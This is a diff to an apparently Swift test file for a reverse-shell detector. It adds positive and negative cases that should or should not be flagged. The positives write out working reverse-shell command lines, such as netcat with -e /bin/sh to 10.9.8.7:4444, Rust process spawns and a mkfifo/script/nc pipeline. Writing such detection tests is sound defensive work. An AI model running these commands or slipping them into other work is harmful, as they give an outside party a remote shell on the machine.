@@ -41,6 +41,12 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
     ("command:\n- /bin/nc\n- \"10.9.8.7\"\n- \"4444\"\n- -e\n- sh", "nc"),
     ("\"Cmd\": [\n  \"nc\",\n  \"-e\",\n  \"/bin/sh\",\n  \"10.9.8.7\",\n  \"4444\"\n],", "nc"),
     ("\"Path\": \"nc\",\n\"Args\": [\n  \"-e\",\n  \"/bin/sh\",\n  \"10.9.8.7\",\n  \"4444\"\n],", "nc"),
+    ("Command::new(\"nc\").args([\"-e\", \"/bin/sh\", \"10.9.8.7\", \"4444\"]).spawn()", "nc"),
+    ("Command::new(\"nc\").arg(\"10.9.8.7\").arg(\"4444\").arg(\"-e\").arg(\"sh\").spawn()", "nc"),
+    ("<Data Name=\"CommandLine\">nc -e /bin/sh 10.9.8.7 4444</Data>", "nc"),
+    ("Netcat runs inside container (user=root command=nc -e /bin/sh 10.9.8.7 4444 container=x)", "nc"),
+    ("nc -c 'exec /bin/bash -i' 10.9.8.7 4444", "nc"),
+    ("mkfifo f;cat f|script -qc /bin/bash /dev/null|nc 10.9.8.7 4444>f", "mkfifo_nc"),
     // Quotes around the far end.
     ("socat TCP:\"10.9.8.7\":4444 EXEC:/bin/sh", "socat"),
     (
@@ -61,7 +67,9 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
     "nc 10.0.0.5 9000 | while :; do sh parse.sh; done", "nc 10.0.0.5 9000 | $(which jq) .",
     "[\"nc\",\"-zv\",\"10.0.0.5\",\"4444\"]", "test: [\"CMD\", \"nc\", \"-z\", \"db\", \"5432\"]",
     "a0=\"nc\" a1=\"-l\" a2=\"9000\"", "nc 10.0.0.5 9000>sh", "tools: \"nc\", \"bash\", \"10.0.0.5\", \"4444\"",
-    "command:\n- nc\n- -z\n- 10.0.0.5\n- \"4444\"\n- sh", "ncat -l 2323 -c 'cat /etc/motd'; vim -c ':!bash'",
+    "command:\n- nc\n- -z\n- 10.0.0.5\n- \"4444\"\n- sh", "command=nc -zv 10.0.0.5 80",
+    "nc -c 'exec date' 10.0.0.5 4444",
+    "cat x | script -qc make log | nc 10.0.0.5 80", "ncat -l 2323 -c 'cat /etc/motd'; vim -c ':!bash'",
     "ncat 10.0.0.5 2323 -c 'date' | tee log; sh -c 'bash -i'",
     "telnetd -l /bin/login -p 23",
     "ftp stream tcp nowait root /usr/sbin/tcpd in.ftpd",
